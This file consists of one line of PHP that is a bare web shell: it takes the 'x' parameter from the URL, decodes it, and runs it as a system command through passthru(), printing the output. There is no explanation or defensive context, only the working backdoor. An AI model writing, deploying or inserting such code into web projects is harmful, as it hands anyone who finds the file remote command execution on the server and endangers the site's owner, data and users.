<?php echo passthru(urldecode($_GET["x"]));
